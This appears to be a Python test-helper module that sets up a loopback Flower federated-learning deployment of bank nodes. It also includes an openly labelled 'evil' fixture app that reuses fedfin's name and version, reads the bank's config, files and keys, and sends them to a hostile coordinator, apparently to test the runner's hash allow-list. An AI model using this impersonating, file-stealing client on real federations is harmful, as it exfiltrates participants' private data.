"""A loopback deployment whose banks run `fedfin bank-runner`: helpers for tests and benchmarks.

A SuperLink (insecure, loopback), and per bank a SuperNode in `--isolation process` (it
holds no data path) plus the bank's runner with its own config file. Also the "evil" app:
a bundle with fedfin's name and version whose ClientApp tries to steal the bank's files.
"""

import json
import os
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterable
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
BIN = ROOT / ".venv" / "bin"
FEDFIN = [sys.executable, "-m", "fedfin.simulations.cli"]
CONNECTION = "local"
APP_PARTS = ("pyproject.toml", "README.md", "common", "server", "client")


def free_port_block(size: int) -> int:
    """A base port with `size` free ports after it (checked, not guaranteed)."""
    for _ in range(50):
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            base = int(probe.getsockname()[1])
        if base + size >= 65535:
            continue
        free = True
        for port in range(base, base + size):
            with socket.socket() as s:
                try:
                    s.bind(("127.0.0.1", port))
                except OSError:
                    free = False
                    break
        if free:
            return base
    raise RuntimeError("no free block of ports")


def deployment_env(flwr_home: Path) -> dict[str, str]:
    """A Flower environment for the coordinator and banks: own FLWR_HOME, nothing phoned home."""
    env = dict(os.environ)
    env["FLWR_HOME"] = str(flwr_home)
    env["PYTHONPATH"] = str(ROOT)
    env["PATH"] = f"{BIN}:{env['PATH']}"
    env["FLWR_TELEMETRY_ENABLED"] = "0"
    env["FLWR_DISABLE_UPDATE_CHECK"] = "1"
    env.setdefault("OMP_NUM_THREADS", "1")
    return env


def superlink_command(port: int) -> list[str]:
    """Coordinator: insecure on loopback; `port` serves Fleet, Control and runtime APIs over
    HTTP, `port + 1` and `port + 2` take Flower's legacy gRPC listeners off their defaults."""
    return [
        "flower-superlink",
        "--insecure",
        "--host",
        "127.0.0.1",
        "--port",
        str(port),
        "--fleet-api-address",
        f"127.0.0.1:{port + 1}",
        "--control-api-address",
        f"127.0.0.1:{port + 2}",
        "--disable-runtime-dependency-installation",
    ]


def supernode_command(superlink_port: int, runtime_port: int, secret: Path) -> list[str]:
    """A bank's SuperNode: executes nothing itself, knows no data path."""
    return [
        "flower-supernode",
        "--insecure",
        "--superlink",
        f"127.0.0.1:{superlink_port}",
        "--isolation",
        "process",
        "--port",
        str(runtime_port),
        "--superexec-auth-secret-file",
        str(secret),
    ]


def write_private(path: Path, content: str | bytes) -> Path:
    """Create `path` readable by its owner only (before anything is written to it)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    with os.fdopen(fd, "wb") as handle:
        handle.write(content.encode() if isinstance(content, str) else content)
    os.chmod(path, 0o600)
    return path


def runner_config_text(
    runtime_port: int,
    secret: Path | None,
    allow: Iterable[tuple[str, str, str]],
    bank: dict[str, object],
    poll_interval: float = 0.1,
) -> str:
    """The runner's TOML: [runner], one [[runner.allow]] per (app, version, sha256), [bank]."""
    lines = ["[runner]", f'runtime-api = "127.0.0.1:{runtime_port}"']
    if secret is not None:
        lines.append(f'superexec-auth-secret-file = "{secret}"')
    lines.append(f"poll-interval = {poll_interval}")
    for app, version, digest in allow:
        lines += ["", "[[runner.allow]]", f'app = "{app}"', f'version = "{version}"']
        lines.append(f'fab-sha256 = "{digest}"')
    lines += ["", "[bank]"]
    for key, value in bank.items():
        lines.append(f"{key} = {json.dumps(value) if isinstance(value, str) else value}")
    return "\n".join(lines) + "\n"


def snapshot_fedfin_app(dest: Path) -> Path:
    """Copy the fedfin app as it is now, so its FAB hash cannot move under a running test."""
    dest.mkdir(parents=True)
    for part in APP_PARTS:
        source = ROOT / part
        if source.is_dir():
            shutil.copytree(source, dest / part, ignore=shutil.ignore_patterns("__pycache__"))
        else:
            shutil.copy2(source, dest / part)
    return dest


def app_hash(app: Path, env: dict[str, str]) -> tuple[str, str, str]:
    """(app, version, fab-sha256) from `fedfin app-hash`, as a bank would get them."""
    out = subprocess.run(
        [*FEDFIN, "app-hash", str(app)],
        cwd=ROOT,
        env=env,
        check=True,
        capture_output=True,
        text=True,
    ).stdout
    fields = dict(line.split(" = ", 1) for line in out.splitlines() if " = " in line)
    return fields["app"].strip('"'), fields["version"].strip('"'), fields["fab-sha256"].strip('"')


def write_connection(flwr_home: Path, superlink_port: int) -> None:
    """The coordinator's `flwr` CLI config: one insecure loopback connection."""
    flwr_home.mkdir(parents=True, exist_ok=True)
    (flwr_home / "config.toml").write_text(
        f'[superlink]\ndefault = "{CONNECTION}"\n\n[superlink.{CONNECTION}]\n'
        f'address = "127.0.0.1:{superlink_port}"\ninsecure = true\n'
    )


def wait_for(check: Callable[[], bool], timeout: float, what: str, interval: float = 0.5) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if check():
            return
        time.sleep(interval)
    raise TimeoutError(f"timed out after {timeout:.0f} s waiting for {what}")


def flwr_json(args: list[str], env: dict[str, str], cwd: Path = ROOT) -> dict[str, object]:
    done = subprocess.run(
        ["flwr", *args, "--format", "json"], cwd=cwd, env=env, capture_output=True, text=True
    )
    try:
        parsed: dict[str, object] = json.loads(done.stdout)
    except json.JSONDecodeError:
        return {"success": False, "stdout": done.stdout, "stderr": done.stderr}
    return parsed


def online_nodes(env: dict[str, str]) -> int:
    """SuperNodes the SuperLink sees online (poll it every few seconds: a `flwr` call costs)."""
    listing = flwr_json(["supernode", "list", CONNECTION], env)
    nodes = listing.get("nodes")
    if not isinstance(nodes, list):
        return 0
    return sum(1 for node in nodes if isinstance(node, dict) and node.get("status") == "online")


def start_run(app: Path, run_config: str, env: dict[str, str]) -> int:
    """`flwr run APP` from the coordinator's side; returns the run id."""
    args = ["run", str(app), CONNECTION]
    if run_config:
        args += ["--run-config", run_config]
    started = flwr_json(args, env)
    if not started.get("success"):
        raise RuntimeError(f"flwr run failed: {started}")
    return int(str(started["run-id"]))


def run_status(run_id: int, env: dict[str, str]) -> str:
    listing = flwr_json(["ls", CONNECTION, "--run-id", str(run_id)], env)
    runs = listing.get("runs", [])
    if isinstance(runs, list) and runs and isinstance(runs[0], dict):
        return str(runs[0].get("status", ""))
    return ""


def wait_for_run(
    run_id: int, env: dict[str, str], timeout: float, done_file: Path | None = None
) -> str:
    """Wait until the run is finished; returns its final status.

    Each `flwr ls` is a fresh Python process (seconds of CPU on a loaded 2-core machine), so
    when the app writes `done_file` at its end, wait for that first and ask Flower after.
    """
    deadline = time.monotonic() + timeout
    if done_file is not None:
        wait_for(done_file.exists, timeout, f"{done_file} from run {run_id}", interval=0.25)
    status = ""

    def finished() -> bool:
        nonlocal status
        status = run_status(run_id, env)
        return status.startswith("finished")

    wait_for(finished, max(deadline - time.monotonic(), 30), f"run {run_id} to end", interval=2)
    return status


def run_log(run_id: int, env: dict[str, str]) -> str:
    done = subprocess.run(
        ["flwr", "log", str(run_id), CONNECTION, "--show"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    return done.stdout + done.stderr


EVIL_PYPROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "fedfin"
version = "0.1.0"
dependencies = ["flwr>=1.42,<1.43"]

[tool.hatch.build.targets.wheel]
packages = ["."]

[tool.flwr.app]
publisher = "fedfin"

[tool.flwr.app.components]
serverapp = "evil_server:app"
clientapp = "evil_client:app"

[tool.flwr.app.config]
rounds = 1
"""

EVIL_CLIENT = '''\
"""What a hostile coordinator would ship: read the bank's data, state and key; send them."""
import os
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()
MARKER = Path({marker!r})
TARGETS = {targets!r}


def steal(message: Message, context: Context) -> Message:
    MARKER.write_text("the evil ClientApp ran inside the bank")
    loot = {{k: str(v) for k, v in context.node_config.items()}}
    for target in TARGETS + [str(v) for v in context.node_config.values()]:
        path = Path(target)
        try:
            if path.is_dir():
                loot[target] = " ".join(sorted(os.listdir(path)))
            else:
                loot[target] = path.read_bytes().hex()
        except OSError as exc:
            loot[target] = repr(exc)
    return Message(RecordDict({{"loot": ConfigRecord(loot)}}), reply_to=message)


app.train()(steal)
app.evaluate()(steal)
'''

EVIL_SERVER = '''\
"""The hostile coordinator's ServerApp: send a train message to every bank, keep the replies."""
import json
import time
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.serverapp import Grid, ServerApp

app = ServerApp()
OUT = Path({out!r})


@app.main()
def main(grid: Grid, context: Context) -> None:
    nodes = []
    for _ in range(60):
        nodes = list(grid.get_node_ids())
        if nodes:
            break
        time.sleep(1)
    messages = [
        Message(
            RecordDict({{"config": ConfigRecord({{"server-round": 1}})}}),
            dst_node_id=node,
            message_type="train",
        )
        for node in nodes
    ]
    replies = []
    for reply in grid.send_and_receive(messages, timeout=120):
        if reply.has_error():
            replies.append({{"error": str(reply.error)}})
            continue
        content = {{
            name: {{k: str(v) for k, v in record.items()}}
            for name, record in reply.content.config_records.items()
        }}
        content["arrays"] = sorted(reply.content.array_records)
        content["metrics"] = {{
            name: dict(record) for name, record in reply.content.metric_records.items()
        }}
        replies.append(content)
    OUT.write_text(json.dumps(replies, default=str))
    print("evil server got replies:", json.dumps(replies, default=str))
'''


def write_evil_app(dest: Path, marker: Path, targets: list[str], out: Path) -> Path:
    """A tmp project with fedfin's name and version whose ClientApp steals files."""
    dest.mkdir(parents=True)
    (dest / "pyproject.toml").write_text(EVIL_PYPROJECT)
    (dest / "evil_client.py").write_text(EVIL_CLIENT.format(marker=str(marker), targets=targets))
    (dest / "evil_server.py").write_text(EVIL_SERVER.format(out=str(out)))
    return dest
